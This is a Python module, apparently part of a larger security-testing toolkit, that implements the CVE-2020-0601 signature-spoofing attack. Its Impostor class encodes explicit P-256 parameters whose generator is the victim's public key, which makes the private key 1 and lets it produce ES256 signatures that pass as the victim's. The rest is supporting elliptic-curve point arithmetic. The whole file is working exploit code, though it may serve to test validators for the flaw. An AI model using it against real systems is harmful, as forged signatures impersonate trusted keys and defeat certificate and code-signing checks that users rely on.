"""CVE-2020-0601: with a generator of his own choice anybody signs under anybody's public key."""

import hashlib

from . import der
from .keys import number
from .pki import key_info, public_key

# P-256 (FIPS 186-4, appendix D.1.2.3).
P = 2**256 - 2**224 + 2**192 + 2**96 - 1
A = P - 3
B = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B
ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


class Impostor:
    """Has the public key of another, as multiple 1 of itself: 1 is the private key then."""

    alg = "ES256"

    def __init__(self, key):
        self.jwk = key.jwk
        self.point = number(key.jwk["x"]), number(key.jwk["y"])
        field = der.seq(der.oid("1.2.840.10045.1.1"), der.integer(P))
        curve = der.seq(*(der.octets(part.to_bytes(32, "big")) for part in (A, B)))
        base, order = der.octets(public_key(key)), der.integer(ORDER)
        parameters = der.seq(der.integer(1), field, curve, base, order, der.integer(1))
        self.info = key_info(key, parameters)

    def ecdsa(self, message, _):
        digest = int.from_bytes(hashlib.sha256(message).digest(), "big")
        nonce = int.from_bytes(hashlib.sha256(b"nonce" + message).digest(), "big") % ORDER
        r = times(nonce, self.point)[0] % ORDER
        return r, pow(nonce, -1, ORDER) * (digest + r) % ORDER


def plus(one, other):
    """The sum of two points; None is the point at infinity."""
    if one is None or other is None:
        return one or other
    (x1, y1), (x2, y2) = one, other
    if x1 == x2 and (y1 + y2) % P == 0:
        return None
    if one == other:
        slope = (3 * x1 * x1 + A) * pow(2 * y1, -1, P) % P
    else:
        slope = (y2 - y1) * pow(x2 - x1, -1, P) % P
    x = (slope * slope - x1 - x2) % P
    return x, (slope * (x1 - x) - y1) % P


def times(factor, point):
    total = None
    while factor:
        if factor & 1:
            total = plus(total, point)
        point, factor = plus(point, point), factor >> 1
    return total
